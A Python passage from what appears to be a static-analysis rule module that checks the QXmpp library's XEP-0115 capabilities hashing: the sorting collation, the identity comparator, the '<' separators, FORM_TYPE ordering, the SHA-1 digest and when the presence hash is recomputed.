                'first', 'last', 'length', 'constFirst', 'constLast', 'toList', 'toVector', 'indexOf')


def run(prog, run):
    run.explanation = ('verificationString(): every loop that appends to the hashed string iterates a local container that was sorted after its last '
                       'mutation with an i;octet comparator (features additionally de-duplicated); the identity comparator is evaluated for all 81 '
                       'orderings of (category, type, language, name) and must be the strict lexicographic order; the piece/terminator discipline of the '
                       'string is a typestate over all paths; FORM_TYPE is removed from the map and appended first; SHA-1 on both sides; the presence '
                       'hash and the disco#info answer both come from QXmppDiscoveryManager::capabilities(), and the hash is recomputed wherever the '
                       'available client presence is emitted.')
    run.assume('equality with an independent XEP-0115 implementation on all inputs (values containing "<", duplicate form keys, several forms) is not decided; '
               'staleness after addExtension()/setClientName() on a live session without a new presence is a history claim (not decided)')
    r_sort(prog, run)
    r_cmp(prog, run)
    r_string(prog, run)
    r_source(prog, run)
    r_multi(prog, run)


# ---------------------------------------------------------------------------------------------------------------
def _is_char(f, nid, code, s):
    n = f.nodes[f.skip(nid)]
    if n['k'] == 'construct' and len(n.get('args', [])) == 1:
        n = f.nodes[f.skip(n['args'][0])]
    if n['k'] in ('char', 'int') and n.get('v') == code:
        return True
    return n['k'] == 'str' and n.get('v') == s


def _flatten(f, nid):
    nid = f.skip(nid)
    bo = f.binop(nid)
    if bo and bo[0] == '+':
        return _flatten(f, bo[1]) + _flatten(f, bo[2])
    return [nid]


def _is_utf8(f, nid):
    """nid (behind implicit casts only) is <QString>.toUtf8()"""
    while f.nodes[nid]['k'] in ('icast', 'cast') or (f.nodes[nid]['k'] == 'construct' and len(f.nodes[nid].get('args', [])) == 1 and f.nodes[nid].get('cls') == 'QByteArray'):
        nid = f.nodes[nid]['e'] if 'e' in f.nodes[nid] else f.nodes[nid]['args'][0]
    n = f.nodes[nid]
    return n['k'] == 'call' and f.cname(n) == 'QString::toUtf8'


def _strip_conv(f, nid):
    """look through toUtf8()/toString()/implicit conversions down to the variable / call that is the operand"""
    nid = f.skip(nid)
    n = f.nodes[nid]
    while n['k'] == 'call' and n.get('obj') is not None and f.cname(n) in ('QString::toUtf8', 'QString::toLatin1') or \
            (n['k'] == 'construct' and len(n.get('args', [])) == 1 and n.get('cls') in ('QString', 'QStringList', 'QList')):
        nid = f.skip(n['obj'] if n['k'] == 'call' else n['args'][0])
        n = f.nodes[nid]
    return nid


def string_less_kind(prog, f, expr):
    """classify a boolean expression over the two parameters of a comparator: 'octet' (UTF-8 byte order), 'utf16', 'locale', or None.
    Returns (kind, swapped)"""
    e = f.skip(expr)
    n = f.nodes[e]
    bo = f.binop(e)
    if bo and bo[0] in ('<', '>'):
        ops = [bo[1], bo[2]] if bo[0] == '<' else [bo[2], bo[1]]
        info = []
        for o in ops:
            utf8 = _is_utf8(f, o)
            base = f.nodes[_strip_conv(f, o)]
            info.append((utf8, base.get('pidx') if base['k'] == 'var' and base.get('vk') == 'param' else None))
        if info[0][1] is None or info[1][1] is None or info[0][1] == info[1][1]:
            return None
        swapped = info[0][1] > info[1][1]
        if info[0][0] and info[1][0]:
            return ('octet', swapped)
        if not info[0][0] and not info[1][0]:
            return ('utf16', swapped)
        return None
    return None


def comparator_kind(prog, f, nid):
    """kind of the ordering a comparator argument (function reference or lambda) implements on two strings"""
    n = f.nodes[f.skip(nid)]
    target = None
    if n['k'] == 'fnref' or (n['k'] == 'un' and n.get('op') == '&'):
        m = n if n['k'] == 'fnref' else f.nodes[f.skip(n['e'])]
        cands = prog.callee_fns(f, m)
        target = cands[0] if cands else None
    elif n['k'] == 'lambda':
        ls = prog.lambda_fns(f, n)
        target = ls[0] if ls else None
    if target is None:
        return None, None
    rets = [rn for _, rn in target.returns()]
    if len(rets) != 1:
        return None, target
    k = string_less_kind(prog, target, rets[0]['e'])
    if k is None:
        # QString::compare / localeAwareCompare forms are recognisably not i;octet
        txt = target.fmt(rets[0]['e'], inline=False)
        if 'QString::compare' in txt or 'QString::localeAwareCompare' in txt:
            return ('utf16', False), target
        return None, target
    return k, target


def _sort_sites(prog, f):
    """{container var decl: [(nid, kind, detail)]} for std::sort(X.begin(), X.end()[, cmp]) and X.sort()"""
    out = {}
    for i, n in f.calls():
        cn = f.cname(n)
        if cn in ('std::sort', 'std::stable_sort') and len(n['args']) >= 2:
            a0, a1 = f.nodes[f.skip(n['args'][0])], f.nodes[f.skip(n['args'][1])]
            if a0['k'] != 'call' or a1['k'] != 'call' or a0.get('obj') is None or a1.get('obj') is None:
                continue
            if not f.cname(a0).endswith('::begin') or not f.cname(a1).endswith('::end'):
                continue
            v0, v1 = f.nodes[f.skip(a0['obj'])], f.nodes[f.skip(a1['obj'])]
            if v0['k'] != 'var' or v1['k'] != 'var' or v0['decl'] != v1['decl']:
                continue
            cmp_arg = n['args'][2] if len(n['args']) > 2 else None
            out.setdefault(v0['decl'], []).append((i, 'std::sort', cmp_arg, v0.get('t', '')))
        elif cn.endswith('::sort') and n.get('obj') is not None and 'QString' in cn:
            v = f.nodes[f.skip(n['obj'])]
            if v['k'] == 'var':
                out.setdefault(v['decl'], []).append((i, 'QStringList::sort', None, v.get('t', '')))
    return out


def _loops(f):
    """range-for loops: (cond block id, loopvar decl, container var node or None, body blocks)"""
    out = []
    dom = f.dom()
    for b in f.blocks.values():
        t = b.get('term')
        if not t or t.get('k') != 'rangefor':
            continue
        rn = f.nodes[f.skip(t['range'])]
        body_entry = b['succs'][0]
        body = {x for x in f.blocks if ('b', body_entry) in dom.get(('b', x), set())} if body_entry is not None else set()
        out.append((b['id'], t['loopvar'], rn if rn['k'] == 'var' else None, body, t))
    return out


def _s_var(f):
    """decl id of the string that is hashed"""
    for i, n in f.calls('QCryptographicHash::addData'):
        base = f.nodes[_strip_conv(f, n['args'][0])]
        if base['k'] == 'var' and base.get('vk') == 'local':
            return base['decl'], i
    raise AnalysisBroken('C20: hasher.addData(<local string>) not found in verificationString')


def _appends(f, sdecl):
    return [(i, n) for i, n in f.all_nodes('assign') if n['op'] == '+=' and f.nodes[f.skip(n['l'])].get('decl') == sdecl]


def r_sort(prog, run):
    rid = run.rule('C20.R1', 'every container whose elements are appended to the hashed string is a local copy sorted (after its last mutation) with the '
                             'i;octet collation; features are de-duplicated; multi-values are sorted before being joined', floor=5)
    f = prog.fn(VS)
    sdecl, hash_call = _s_var(f)
    apps = _appends(f, sdecl)
    if len(apps) < 5:
        raise AnalysisBroken('C20.R1: only %d appends to the hashed string found' % len(apps))
    sorts = _sort_sites(prog, f)
    loops = _loops(f)
    seen_sources = set()

    def check_sorted(container, use_nid, what, need_dedup=False):
        run.instance(rid)
        if container is None or container.get('vk') != 'local':
            run.violation(rid, 'verificationString#%s#unsorted' % what, f.loc(use_nid), 'the %s are appended in the order they are stored (no sorted local copy)' % what)
            return
        decl = container['decl']
        ss = [s for s in sorts.get(decl, []) if f.node_dominates(s[0], use_nid)]
        if not ss:
            run.violation(rid, 'verificationString#%s#unsorted' % what, f.loc(use_nid), 'the %s reach the hashed string without being sorted on every path' % what)
            return
        s = ss[-1]
        # collation
        elem_is_string = 'QString' in s[3] or 'QStringList' in s[3]
        if s[1] == 'QStringList::sort' or (s[2] is None and elem_is_string):
            run.violation(rid, 'verificationString#%s#collation' % what, f.loc(s[0]),
                          'the %s are sorted with QString\'s operator< (UTF-16 code unit order); XEP-0115 requires i;octet (UTF-8 byte order), which differs '
                          'for characters outside the BMP' % what)
            return
        if s[2] is not None:
            kind, target = comparator_kind(prog, f, s[2])
            if target is not None and target.name == 'identityLessThan' or (target is not None and any(IDENT in target.fmt(i2, inline=False) for i2, _ in target.calls())):
                pass  # the identity comparator is decided by C20.R2
            elif kind is None:
                raise AnalysisBroken('C20.R1: comparator %s of the %s sort has a form the checker does not know' % (f.fmt(s[2], inline=False)[:40], what))
            elif kind[0] != 'octet' or kind[1]:
                run.violation(rid, 'verificationString#%s#collation' % what, f.loc(s[0]),
                              'the %s are sorted %s; XEP-0115 requires ascending i;octet order' % (what, 'descending' if kind[1] else 'by ' + kind[0] + ' order'))
                return
        # mutations after the sort
        for i, n in f.calls():
            if n.get('obj') is None:
                continue
            v = f.nodes[f.skip(n['obj'])]
            if v['k'] != 'var' or v.get('decl') != decl:
                continue
            m = f.cname(n).split('::')[-1]
            if m in NON_MUTATING or m == 'removeDuplicates' or m == 'sort':
                continue
            if f.node_dominates(s[0], i) and not f.node_dominates(use_nid, i):
                run.violation(rid, 'verificationString#%s#mutated-after-sort' % what, f.loc(i), 'the sorted %s are modified (%s) before being appended' % (what, m))
                return
        if need_dedup:
            dd = [i for i, n in f.calls() if f.cname(n).endswith('::removeDuplicates') and n.get('obj') is not None
                  and f.nodes[f.skip(n['obj'])].get('decl') == decl and f.node_dominates(i, use_nid)]
            if not dd:
                run.violation(rid, 'verificationString#%s#duplicates' % what, f.loc(use_nid), 'a repeated feature is hashed twice (no removeDuplicates on the sorted copy)')
                return
        run.ok(rid, f.loc(s[0]), '%s: sorted local copy (%s)%s' % (what, f.fmt(s[0], inline=False)[:70], ', de-duplicated' if need_dedup else ''))

    for cond_bid, loopvar, container, body, t in loops:
        inside = [(i, n) for i, n in apps if f.pos(i) and f.pos(i)[0] in body]
        if not inside:
            continue
        # where does the container come from?
        src = ''
        if container is not None:
            d = f.single_def(container['decl'])
            src = f.fmt(d, inline=False) if d is not None else ''
        what = 'identities' if 'identities' in src else 'features' if 'features' in src else 'form field keys' if '::keys()' in src else 'elements of ' + f.fmt(t['range'], inline=False)[:30]
        seen_sources.add(what)
        first_decl = [i for i, n in f.all_nodes('decl') if any(d.get('name', '').startswith('__range') and f.skip(d.get('init')) == f.skip(t['range']) for d in n['decls'])]
        use = first_decl[0] if first_decl else inside[0][0]
        check_sorted(container, use, what, need_dedup=(what == 'features'))
    for need in ('identities', 'features', 'form field keys'):
        if need not in seen_sources:
            run.instance(rid)
            run.violation(rid, 'verificationString#%s#missing' % need, f.loc(), 'the %s do not contribute to the hashed string' % need)
    # multi-values
    joins = [(i, n) for i, n in f.calls() if f.cname(n).endswith('::join') and n.get('obj') is not None]
    if not joins:
        raise AnalysisBroken('C20.R1: the multi-value join was not found')
    for i, n in joins:
        v = f.nodes[f.skip(n['obj'])]
        check_sorted(v if v['k'] == 'var' else None, i, 'field values')
        run.instance(rid)
        if n['args'] and _is_char(f, n['args'][0], 60, '<'):
            run.ok(rid, f.loc(i), 'multi-values joined with "<"')
        else:
            run.violation(rid, 'verificationString#field-values#separator', f.loc(i), 'multi-values are not separated by "<"')


# ---------------------------------------------------------------------------------------------------------------
def r_cmp(prog, run):
    rid = run.rule('C20.R2', 'the identity comparator is the strict lexicographic order on (category, type, xml:lang, name) under i;octet for all 81 orderings '
                             'of the four keys; the hashed identity string uses the same four accessors in the same order', floor=82)
    f = prog.fn(VS)
    sorts = _sort_sites(prog, f)
    cmpf = None
    for decl, ss in sorts.items():
        for s in ss:
            if s[2] is not None:
                kind, target = comparator_kind(prog, f, s[2])
                if target is not None and any(IDENT in target.fmt(i2, inline=False) for i2, _ in target.calls()):
                    cmpf = target
    if cmpf is None:
        run.instance(rid)
        run.violation(rid, 'verificationString#identities#comparator', f.loc(), 'identities are not sorted with a comparator over their four keys')
        return

    # atoms: comparisons between the same accessor of both parameters
    def accessor(g, nid):
        n = g.nodes[_strip_conv(g, nid)]
        if n['k'] == 'call' and g.cname(n).startswith(IDENT) and n.get('obj') is not None:
            o = g.nodes[g.skip(n['obj'])]
            if o['k'] == 'var' and o.get('vk') == 'param':
                return g.cname(n)[len(IDENT):], o['pidx']
        return None

    helper_kind = {}
    kinds_used = set()
    unknown = []

    def atom(g, nid):
        """-> (key, op, swapped) if nid compares the same key of both identities"""
        n = g.nodes[nid]
        bo = g.binop(nid)
        if bo and bo[0] in ('<', '>', '<=', '>=', '==', '!='):
            a, b = accessor(g, bo[1]), accessor(g, bo[2])
            if a and b and a[0] == b[0] and a[1] != b[1]:
                utf8 = [_is_utf8(g, x) for x in (bo[1], bo[2])]
                if bo[0] in ('<', '>', '<=', '>='):
                    kinds_used.add('octet' if all(utf8) else 'utf16')
                return a[0], bo[0], a[1] > b[1]
            return None
        if n['k'] == 'call' and len(n.get('args', [])) == 2 and not n.get('op'):
            a, b = accessor(g, n['args'][0]), accessor(g, n['args'][1])
            if a and b and a[0] == b[0] and a[1] != b[1]:
                cn = g.cname(n)
                if cn not in helper_kind:
                    hs = prog.fns_named(cn)
                    k = None
                    if hs:
                        rets = [rn for _, rn in hs[0].returns()]
                        if len(rets) == 1:
                            k = string_less_kind(prog, hs[0], rets[0]['e'])
                    helper_kind[cn] = k
                k = helper_kind[cn]
                if k is None:
                    unknown.append(cn)
                    return None
                kinds_used.add(k[0])
                return a[0], '<', (a[1] > b[1]) != k[1]
        return None

    bad = []
    n_ok = 0
    for rel in itertools.product((-1, 0, 1), repeat=4):
        relmap = dict(zip(KEYS, rel))

        def custom(g, nid, st):
            at = atom(g, nid)
            if at is None:
                return None
            key, op, swapped = at
            if key not in relmap:
                return None
            r = relmap[key]
            if swapped:
                r = -r
            return ({'<': r < 0, '>': r > 0, '<=': r <= 0, '>=': r >= 0, '==': r == 0, '!=': r != 0}[op],)
        ev = cfgx.Evaluator(cmpf, {}, custom=custom)

        def transfer(g, nid, st):
            n = g.nodes[nid]
            if n['k'] == 'ret':
                return ('ret', ev.ev(n['e'], st))
            return None
        exits, info = cfgx.explore(cmpf, ('run',), transfer, lambda g, c, st: ev.ev(c, st))
        run.paths += len(exits)
        expected = next((r < 0 for r in rel if r != 0), False)
        run.instance(rid)
        vals = {st[1] for st in exits if st and st[0] == 'ret'}
        if None in vals or not vals:
            if unknown:
                raise AnalysisBroken('C20.R2: the identity comparator uses %s, whose form the checker does not know' % unknown[0])
            raise AnalysisBroken('C20.R2: the identity comparator does not reduce to comparisons of (category, type, language, name) for ordering %s' % (rel,))
        if vals != {expected}:
            bad.append((rel, vals))
        else:
            n_ok += 1
            run.ok(rid, cmpf.loc(), 'ordering %s -> %s' % (rel, expected), nontrivial=(rel.count(0) >= 2))
    if bad:
        rel, vals = bad[0]
        desc = ', '.join('%s %s' % (k, {-1: 'less', 0: 'equal', 1: 'greater'}[r]) for k, r in zip(KEYS, rel))
        run.violation(rid, 'identityLessThan#not-lexicographic', cmpf.loc(),
                      'the identity comparator is not the lexicographic order on (category, type, language, name): for (%s) it returns %s (%d of 81 orderings wrong), '
                      'so equal info sets in different orders hash differently or the order differs from XEP-0115' % (desc, sorted(vals), len(bad)))
    run.instance(rid)
    if kinds_used == {'octet'}:
        run.ok(rid, cmpf.loc(), 'all key comparisons use UTF-8 byte order')
    else:
        run.violation(rid, 'identityLessThan#collation', cmpf.loc(), 'identity keys are compared in %s order; XEP-0115 requires i;octet (UTF-8 byte order), which differs for '
                                                                      'characters outside the BMP' % '/'.join(sorted(kinds_used)))
    # the appended identity string
    sdecl, _ = _s_var(f)
    apps = _appends(f, sdecl)
    run.instance(rid)
    found = False
    for cond_bid, loopvar, container, body, t in _loops(f):
        inside = sorted((i for i, n in apps if f.pos(i) and f.pos(i)[0] in body), key=lambda i: (f.nodes[i].get('ln', 0), i))
        if not inside or not any(IDENT in f.fmt(f.nodes[i]['r'], inline=False) for i in inside):
            continue
        found = True
        shape = []
        for i in inside:   # the pieces may be appended in one statement or several
            for p in _flatten(f, f.nodes[i]['r']):
                pn = f.nodes[p]
                if pn['k'] == 'call' and f.cname(pn).startswith(IDENT) and f.nodes[f.skip(pn['obj'])].get('decl') == loopvar:
                    shape.append(f.cname(pn)[len(IDENT):])
                elif _is_char(f, p, 47, '/'):
                    shape.append('/')
                elif _is_char(f, p, 60, '<'):
                    shape.append('<')
                else:
                    shape.append('?' + f.fmt(p, inline=False)[:20])
        if shape == ['category', '/', 'type', '/', 'language', '/', 'name', '<']:
            run.ok(rid, f.loc(inside[0]), 'identity string: category/type/lang/name<')
        else:
            run.violation(rid, 'verificationString#identity-string', f.loc(inside[0]), 'the identity is hashed as %s instead of category/type/lang/name<' % ''.join(shape))
    if not found:
        run.violation(rid, 'verificationString#identity-string', f.loc(), 'no identity string is appended')


# ---------------------------------------------------------------------------------------------------------------
def r_string(prog, run):
    rid = run.rule('C20.R3', 'every piece of the hashed string is terminated by "<" on every path, FORM_TYPE is taken out of the map and appended first, every '
                             'remaining key contributes its key and value(s); the digest is SHA-1 over the UTF-8 form', floor=6)
    f = prog.fn(VS)
    sdecl, hash_call = _s_var(f)
    apps = dict(_appends(f, sdecl))

    def transfer(g, nid, st):
        if nid in apps:
            parts = _flatten(g, apps[nid]['r'])
            term = _is_char(g, parts[-1], 60, '<')
            if st.startswith('BAD'):
                return st
            # an open piece may only be continued by a separator ("<" ends it, "/" joins the next identity key)
            if st == 'O' and not (_is_char(g, parts[0], 60, '<') or _is_char(g, parts[0], 47, '/')):
                return 'BAD:%d' % nid
            return 'T' if term else ('J' if _is_char(g, parts[-1], 47, '/') else 'O')
        if nid == hash_call and not st.startswith('BAD') and st != 'T':
            return 'BAD:%d' % nid
        return None
    exits, info = cfgx.explore(f, 'T', transfer, None)
    run.paths += info['states']
    run.instance(rid)
    badst = [st for st in exits if st.startswith('BAD')]
    if badst:
        nid = int(badst[0].split(':')[1])
        run.violation(rid, 'verificationString#separator', f.loc(nid), 'on some path a piece of the hashed string is not terminated by "<" before the next piece / the digest',
                      cfgx.describe_path(f, exits[badst[0]]))
    else:
        run.ok(rid, f.loc(), 'all %d appends keep the piece"<" discipline on all paths (%d states)' % (len(apps), info['states']))
    # features: "<feature><"
    # FORM_TYPE first
    takes = [(i, n) for i, n in f.calls() if f.cname(n).endswith('::take') and n['args'] and f.strval(n['args'][0]) == 'FORM_TYPE']
    keys_calls = [(i, n) for i, n in f.calls() if f.cname(n).endswith('::keys')]
    run.instance(rid)
    if not takes or not keys_calls:
        run.violation(rid, 'verificationString#form-type', f.loc(), 'FORM_TYPE is not taken out of the field map before the remaining keys are listed')
    else:
        ti = takes[0][0]
        # the variable holding the taken field
        form_apps = [i for i in apps if f.node_dominates(ti, i)]
        ft_apps = [i for i in form_apps if 'take("FORM_TYPE")' in f.fmt(apps[i]['r'], inline=True) and 'QXmppDataForm::Field::value()' in f.fmt(apps[i]['r'], inline=True)]
        others = [i for i in form_apps if i not in ft_apps]
        if not ft_apps:
            run.violation(rid, 'verificationString#form-type', f.loc(ti), 'the FORM_TYPE value is not appended')
        elif not all(f.node_dominates(ft_apps[0], o) for o in others) or not all(f.node_dominates(ti, k) for k, _ in keys_calls):
            run.violation(rid, 'verificationString#form-type-first', f.loc(ft_apps[0]), 'the FORM_TYPE value is not the first piece of the form / FORM_TYPE stays among the keys')
        else:
            run.ok(rid, f.loc(ft_apps[0]), 'FORM_TYPE taken out of the map, its value appended before any other field')
    # each key contributes key and value
    run.instance(rid)
    key_loop = None
    for cond_bid, loopvar, container, body, t in _loops(f):
        if container is not None and '::keys()' in (f.fmt(f.single_def(container['decl']), inline=False) if f.single_def(container['decl']) is not None else ''):
            key_loop = (loopvar, body)
    if key_loop is None:
        run.violation(rid, 'verificationString#form-fields', f.loc(), 'the remaining form fields are not appended')
    else:
        loopvar, body = key_loop
        inside = [i for i in apps if f.pos(i) and f.pos(i)[0] in body]
        key_app = [i for i in inside if any(f.nodes[p].get('decl') == loopvar for p in _flatten(f, apps[i]['r']))]
        val_app = [i for i in inside if 'QXmppDataForm::Field::value()' in f.fmt(apps[i]['r'], inline=True)]
        by_key = True
        lookup_ok = all(('QMap<QString, QXmppDataForm::Field>::value(' in f.fmt(apps[i]['r'], inline=True)) for i in val_app)
        if not key_app:
            run.violation(rid, 'verificationString#form-fields#key', f.loc(), 'the field key is not part of the hashed string')
        elif not val_app or not lookup_ok or not by_key:
            run.violation(rid, 'verificationString#form-fields#value', f.loc(), 'the field value(s) of each key are not part of the hashed string')
        else:
            # each iteration appends a value on every path: val appends cover both arms of the multi/single test
            posd = f.pdom()
            body_entry = f.pos(key_app[0])[0]
            covered = any(('b', f.pos(v)[0]) in posd.get(('b', body_entry), set()) for v in val_app)
            if not covered:
                # several arms: explore the body from the key append and require a value append before the back edge
                exits2, _ = cfgx.explore(f, 'N', lambda g, nid, st: ('K' if nid in key_app else 'V' if (nid in val_app and st == 'K') else ('MISS' if (nid in key_app and st == 'K') else None)), None)
                covered = 'MISS' not in exits2 and not any(st == 'K' for st in exits2)
            if covered:
                run.ok(rid, f.loc(key_app[0]), 'each remaining key appends key"<" and its value(s) on every path')
            else:
                run.violation(rid, 'verificationString#form-fields#value', f.loc(key_app[0]), 'on some path a key is appended without its value')
    # features appended as feature<
    run.instance(rid)
    feat = None
    for cond_bid, loopvar, container, body, t in _loops(f):
        if container is not None and f.single_def(container['decl']) is not None and 'features' in f.fmt(f.single_def(container['decl']), inline=False):
            for i in apps:
                if f.pos(i) and f.pos(i)[0] in body:
                    parts = _flatten(f, apps[i]['r'])
                    if f.nodes[parts[0]].get('decl') == loopvar and all(_is_char(f, x, 60, '<') for x in parts[1:]):
                        feat = i     # the terminator is decided by the typestate above
    if feat is not None:
        run.ok(rid, f.loc(feat), 'features appended as feature"<"')
    else:
        run.violation(rid, 'verificationString#feature-string', f.loc(), 'features are not appended as feature"<"')
    # digest
    run.instance(rid)
    ctor = [n for i, n in f.all_nodes('construct') if n.get('cls') == 'QCryptographicHash']
    alg = f.const_value(ctor[0]['args'][0]) if ctor and ctor[0].get('args') else None
    if alg == ('enum', 'QCryptographicHash::Sha1'):
        run.ok(rid, f.loc(hash_call), 'QCryptographicHash::Sha1')
    else:
        run.violation(rid, 'verificationString#algorithm', f.loc(hash_call), 'the digest is %s, but the presence advertises hash="sha-1"' % (alg,))
    run.instance(rid)
    if _is_utf8(f, f.nodes[hash_call]['args'][0]):
        run.ok(rid, f.loc(hash_call), 'digest over S.toUtf8()')
    else:
        run.violation(rid, 'verificationString#encoding', f.loc(hash_call), 'the digest is not computed over the UTF-8 form of the string (%s)' % f.fmt(hash_call, inline=False)[:60])
    # the function must not modify the IQ (const) and must read the IQ's own fields
    run.instance(rid)
    srcs = set()
    for i, n in f.all_nodes('mem'):
        srcs.add(n['f'].split('::')[-1])
    if {'identities', 'features', 'form'} <= srcs:
        run.ok(rid, f.loc(), 'reads d->identities, d->features, d->form')
    else:
        run.violation(rid, 'verificationString#inputs', f.loc(), 'not all of identities/features/form are read (%s)' % sorted(srcs))


# ---------------------------------------------------------------------------------------------------------------
def r_source(prog, run):
    rid = run.rule('C20.R4', 'the advertised hash and the disco#info answer both come from QXmppDiscoveryManager::capabilities(); the answer is modified only by '
                             'setQueryNode; the hash is recomputed wherever the available client presence is emitted; the presence says sha-1', floor=6)
    ap = prog.fn('QXmppClientPrivate::addProperCapability')
    run.instance(rid)
    sv = [(i, n) for i, n in ap.calls('QXmppPresence::setCapabilityVer')]
    if not sv:
        run.violation(rid, 'addProperCapability#ver', ap.loc(), 'the presence capability ver is not set')
    else:
        t = ap.fmt(sv[0][1]['args'][0], inline=True)
        if 'QXmppDiscoveryManager::capabilities().QXmppDiscoveryIq::verificationString()' in t:
            run.ok(rid, ap.loc(sv[0][0]), 'ver = discoveryManager->capabilities().verificationString()')
        else:
            run.violation(rid, 'addProperCapability#ver-source', ap.loc(sv[0][0]), 'the advertised ver is %s, not the hash of capabilities()' % t[:80])
    # ... on every path on which the discovery manager exists (no other condition may keep a stale ver)
    run.instance(rid)
    if sv:
        def custom(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'var' and n.get('vk') == 'local' and 'QXmppDiscoveryManager' in (n.get('t') or ''):
                return (True,)
            if n['k'] == 'call' and f.cname(n).endswith('::findExtension') and 'QXmppDiscoveryManager' in ((f.sym(n) or {}).get('targs') or n.get('t') or ''):
                return (True,)
            return None
        ev = cfgx.Evaluator(ap, {}, custom=custom)
        exits, _ = cfgx.explore(ap, 'stale', lambda f, nid, st: 'set' if nid == sv[0][0] else None, lambda f, c, st: ev.ev(c, st))
        if set(exits) == {'set'}:
            run.ok(rid, ap.loc(sv[0][0]), 'ver is recomputed on every path on which the discovery manager exists')
        else:
            run.violation(rid, 'addProperCapability#conditional-ver', ap.loc(sv[0][0]),
                          'addProperCapability keeps the ver already present in the presence on some path: a presence copied from clientPresence() keeps advertising the '
                          'hash of an earlier capability set', cfgx.describe_path(ap, exits.get('stale', [])))
    run.instance(rid)
    sh = [(i, n) for i, n in ap.calls('QXmppPresence::setCapabilityHash')]
    if sh and ap.strval(sh[0][1]['args'][0]) == 'sha-1':
        run.ok(rid, ap.loc(sh[0][0]), 'hash="sha-1"')
    else:
        run.violation(rid, 'addProperCapability#hash-name', ap.loc(), 'the presence does not advertise hash="sha-1" although the digest is SHA-1')
    # only addProperCapability sets ver
    for g, i in prog.callers_by_qname('QXmppPresence::setCapabilityVer'):
        if g.nodes[i]['k'] != 'call':
            continue
        run.instance(rid)
        top = top_function(prog, g)
        if top.qname == 'QXmppClientPrivate::addProperCapability':
            run.ok(rid, g.loc(i), 'setCapabilityVer called from addProperCapability', nontrivial=False)
        else:
            run.violation(rid, 'setCapabilityVer#caller:%s' % top.qname, g.loc(i), '%s sets the advertised capability hash' % top.display())
    # the disco#info answer
    hi = prog.fn('QXmppDiscoveryManager::handleIq')
    run.instance(rid)
    rets = []
    for r, rn in hi.returns():
        e = rn.get('e')
        if e is None:
            continue
        # the returned variant is constructed from a local
        vars_in = [hi.nodes[j] for j in hi.walk(e) if hi.nodes[j]['k'] == 'var' and hi.nodes[j].get('vk') == 'local']
        for v in vars_in:
            defs = hi.all_defs(v['decl'])
            for dd in defs:
                if 'QXmppDiscoveryManager::capabilities()' in hi.fmt(dd, inline=False):
                    rets.append((r, v))
    if not rets:
        run.violation(rid, 'handleIq#info-answer', hi.loc(), 'the disco#info answer is not built from capabilities()')
    else:
        r, v = rets[0]
        muts = []
        for i, n in hi.calls():
            if n.get('obj') is None:
                continue
            o = hi.nodes[hi.skip(n['obj'])]
            if o['k'] == 'var' and o.get('decl') == v['decl']:
                m = hi.cname(n).split('::')[-1]
                sym = hi.sym(n) or {}
                if not sym.get('const') and m not in ('setQueryNode',):
                    muts.append((i, m))
        info_case = any(c == ('enum', 'QXmppDiscoveryIq::InfoQuery') or (isinstance(c, dict) and c.get('name', '').endswith('InfoQuery'))
                        for b in hi.blocks.values() if b.get('term') and b['term'].get('k') == 'switch' for c in b['term'].get('cases', []))
        if muts:
            run.violation(rid, 'handleIq#info-answer#%s' % muts[0][1], hi.loc(muts[0][0]), 'the disco#info answer differs from the hashed capabilities: %s() is applied only to the answer' % muts[0][1])
        else:
            run.ok(rid, hi.loc(r), 'InfoQuery answer = capabilities() + setQueryNode')
    # the node filter: answers for "<node>#<ver>" are not refused
    # emission sites of the client presence
    cp = 'QXmppClientPrivate::clientPresence'
    sites = []
    for g in prog.fns.values():
        for i, n in g.calls():
            if not g.cname(n).endswith('::sendPacket') and not g.cname(n).endswith('::send'):
                continue
            for a in n.get('args', []):
                an = g.nodes[g.skip(a)]
                if an['k'] == 'mem' and an.get('f') == cp:
                    sites.append((g, i))
    if len(sites) < 3:
        raise AnalysisBroken('C20.R4: only %d emission sites of d->clientPresence found' % len(sites))
    for g, i in sites:
        run.instance(rid)
        recompute = [j for j, m in g.calls('QXmppClientPrivate::addProperCapability') if g.node_dominates(j, i)]
        # unavailable presences carry no usable capabilities
        unavailable = [j for j, m in g.calls('QXmppPresence::setType') if g.const_value(m['args'][0]) == ('enum', 'QXmppPresence::Unavailable')
                       and g.nodes[g.skip(m['obj'])].get('f') == cp and g.node_dominates(j, i)]
        un_guard = any('QXmppPresence::Unavailable' in g.fmt(c, inline=True) and 'QXmppPresence::type()' in g.fmt(c, inline=True) and
                       ((p is True and g.binop(g.skip(c)) and g.binop(g.skip(c))[0] == '==') or (p is False and g.binop(g.skip(c)) and g.binop(g.skip(c))[0] == '!='))
                       for c, p in g.atomic_assertions_at(i))
        top = top_function(prog, g)
        if recompute:
            run.ok(rid, g.loc(i), '%s: addProperCapability(d->clientPresence) precedes the emission' % top.display()[:50])
        elif unavailable or un_guard:
            run.ok(rid, g.loc(i), '%s: unavailable presence (capabilities not advertised to anyone online)' % top.display()[:50], nontrivial=False)
        else:
            run.violation(rid, 'clientPresence-emission#%s#stale-hash' % top.qname, g.loc(i),
                          '%s sends the stored client presence with the hash computed earlier: extensions or identity data registered since then are answered '
                          'in disco#info but not covered by the advertised hash' % top.display())


def r_multi(prog, run):
    rid = run.rule('C20.R5', 'every multi-valued data form field type reaches the sorted, "<"-joined branch of the hashed string (none of them is hashed through the single-value '
                             'conversion, which yields an empty string for a list)', floor=2)
    f = prog.fn(VS)
    joins = [i for i, n in f.calls() if f.cname(n).endswith('::join')]
    if not joins:
        raise AnalysisBroken('C20.R5: join not found in verificationString')
    en = prog.enum('QXmppDataForm::Field::Type')
    multi = [e['name'] for e in en['enumerators'] if 'Multi' in e['name']]
    if len(multi) < 2:
        raise AnalysisBroken('C20.R5: multi-valued field types not found in QXmppDataForm::Field::Type')
    for name in multi:
        run.instance(rid)
        qn = 'QXmppDataForm::Field::' + name
        ev = cfgx.Evaluator(f, {'QXmppDataForm::Field::type': ('enum', qn)},
                            custom=lambda g, nid, st: (False,) if g.nodes[nid]['k'] == 'call' and g.cname(g.nodes[nid]) in ('QXmppDataForm::isNull',) else None)
        visits = {}
        cfgx.explore(f, (), None, lambda g, c, st: ev.ev(c, st), record_visits=visits)
        if any(f.pos(j) and f.pos(j)[0] in visits for j in joins):
            run.ok(rid, f.loc(joins[0]), '%s values reach the sorted join' % name)
        else:
            run.violation(rid, 'verificationString#multi-value#%s' % name, f.loc(joins[0]),
                          'a %s field never reaches the sorted join: its values are hashed through the single-value conversion (empty for a list), so they do not influence the '
                          'verification string' % name)
