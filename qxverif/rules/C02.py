"""C02 — parsing any well-formed XML is safe and normalising (structural clauses).

